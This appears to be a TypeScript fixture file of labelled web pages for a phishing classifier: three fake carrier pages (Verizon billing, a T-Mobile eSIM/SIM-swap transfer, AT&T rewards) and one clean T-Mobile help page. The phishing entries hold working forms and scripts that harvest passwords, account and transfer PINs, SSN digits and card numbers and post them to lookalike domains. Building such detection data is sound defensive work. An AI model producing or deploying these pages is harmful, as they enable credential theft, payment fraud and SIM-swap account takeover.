import type { Entry } from '../entry.js';
import { doc, gtag, pixel, baseCss, header, footer, assets, htmlRoute, jsRoute, jsonRoute, okJson, pngRoute } from '../parts/zk-kit.js';
export const entries: Entry[] = [
{
    id: 'zk-phish-verizon-account-pin',
    label: 'phishing',
    kind: 'telecom-login',
    url: 'https://myverizon-billing-update.com/signin/',
    body: doc({
      title: 'My Verizon | Sign In',
      css: baseCss('#000') + 'body{background:#fff}.w{max-width:420px;margin:40px auto}button{border-radius:24px}',
      body: `<header class="top"><b style="font-size:22px">verizon<span style="color:#ee0000">&#10003;</span></b></header>
<div class="w"><h1>Sign in to My Verizon</h1><p>Your last payment of $142.87 did not go through. Sign in to update your billing information and avoid service interruption.</p>
<form id="f"><label>User ID or Verizon mobile number</label><input name="uid"><label>Password</label><input name="pw" type="password"><label>Account PIN (4 digits)</label><input name="pin" maxlength="4"><label>Billing ZIP</label><input name="zip"><button>Sign in</button></form></div>
${footer('Verizon', ['Privacy Policy', 'Terms &amp; Conditions', 'Your Privacy Choices', 'Accessibility'])}`,
      scripts: `<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/signin/s.php',{method:'POST',body:new URLSearchParams(new FormData(this))}).then(function(){location='/signin/billing.html'})}</script>`,
    }),
    routes: {
      'myverizon-billing-update.com/signin/s.php': okJson(),
      'myverizon-billing-update.com/signin/billing.html': htmlRoute(doc({ title: 'My Verizon | Billing', css: baseCss('#000'), body: '<main class="card"><h2>Update payment method</h2><form method="post" action="done.php"><label>Name on card</label><input><label>Card number</label><input><label>Exp</label><input><label>CVV</label><input><button>Save</button></form></main>' })),
    },
  },
{
    id: 'zk-phish-tmobile-sim-port-out',
    label: 'phishing',
    kind: 'telecom-simswap',
    url: 'https://tmobile-esim-activation.support/transfer/',
    body: doc({
      title: 'T-Mobile | Activate your eSIM',
      css: baseCss('#e20074') + '.w{max-width:480px;margin:30px auto}',
      body: `<header class="top" style="background:#e20074;color:#fff"><b>T&middot;Mobile</b></header>
<div class="w card"><h2>Complete your free eSIM upgrade</h2><p>Your physical SIM will be deactivated on <b>12/04</b>. To keep your number, confirm your account and authorize the transfer to eSIM.</p>
<form id="f"><label>T-Mobile phone number</label><input name="msisdn"><label>Account number</label><input name="acct"><label>Account PIN / Passcode</label><input name="pin" type="password"><label>Number Transfer PIN</label><input name="ntp"><label>Last 4 of SSN</label><input name="ssn4" maxlength="4"><button>Authorize transfer</button></form>
<p class="muted">Dial #PORT from your T-Mobile phone to generate a Number Transfer PIN.</p></div>
${footer('T-Mobile USA, Inc.', ['Privacy Center', 'Terms &amp; Conditions', 'Open Internet'])}`,
      scripts: `<script>f.onsubmit=function(e){e.preventDefault();fetch('/transfer/api',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(Object.fromEntries(new FormData(f)))}).then(function(){f.outerHTML='<p><b>Transfer scheduled.</b> Your eSIM QR code will be emailed within 24 hours. Do not restart your phone.</p>'})}</script>`,
    }),
    routes: { 'tmobile-esim-activation.support/transfer/api': okJson() },
  },
{
    id: 'zk-phish-att-rewards-points',
    label: 'phishing',
    kind: 'telecom-login',
    url: 'https://att-points-redeem.com/rewards/?m=2145550199',
    body: doc({
      title: 'AT&amp;T Rewards Center',
      css: baseCss('#009fdb') + '.w{max-width:520px;margin:20px auto}.pts{font-size:42px;color:#009fdb;font-weight:700}',
      body: `<header class="top"><b style="color:#009fdb;font-size:22px">AT&amp;T</b></header>
<div class="w card"><p>Dear AT&amp;T customer, your loyalty points expire today.</p><div class="pts">8,450 pts</div><p>Redeem for AirPods Pro, a $100 bill credit or a Samsung Galaxy Watch. Pay only shipping.</p>
<form action="/rewards/login" method="post"><label>AT&amp;T ID / wireless number</label><input name="id"><label>Password</label><input name="pw" type="password"><button>Redeem now</button></form></div>`,
    }),
    routes: { 'att-points-redeem.com/rewards/login': htmlRoute(doc({ title: 'Shipping', body: '<h3>Pay $2.99 shipping</h3><form><input placeholder="Card number"><input placeholder="MM/YY"><input placeholder="CVC"><button>Pay</button></form>' })) },
  },
{
    id: 'zk-clean-tmobile-port-pin-help',
    label: 'clean',
    kind: 'telecom-help',
    url: 'https://www.t-mobile.com/support/account/transfer-pin',
    body: doc({
      title: 'Number Transfer PIN | T-Mobile Support',
      css: baseCss('#e20074'),
      head: gtag('G-TMO77120'),
      body: `${header('/content/dam/site/logo.png', 'T-Mobile', ['Phones', 'Plans', 'Deals', 'Support'])}
<main><h1>Number Transfer PIN</h1><p>A Number Transfer PIN is a one-time code you need when moving your number to another carrier. It's separate from your account PIN.</p>
<h2>Get your PIN</h2><ol><li>Dial #PORT (#7678) from your T-Mobile phone, or</li><li>Log in to the T-Mobile app &gt; Account &gt; Profile &gt; Line settings &gt; Transfer PIN.</li></ol>
<div class="alert"><b>Scam warning:</b> Only the account holder should request a transfer PIN. T-Mobile will never call or text asking you to read a PIN back, and there is no "eSIM deactivation" deadline sent by text.</div>
<h2>Protect against SIM swaps</h2><p>Turn on SIM Protection and Port Out Protection in the app under Account &gt; Privacy &amp; Notifications.</p></main>
${footer('T-Mobile USA, Inc.', ['About', 'Privacy Center', 'Do Not Sell My Personal Information', 'Terms &amp; Conditions', 'Open Internet'])}`,
    }),
    routes: assets('www.t-mobile.com', [226, 0, 116]),
  },
];
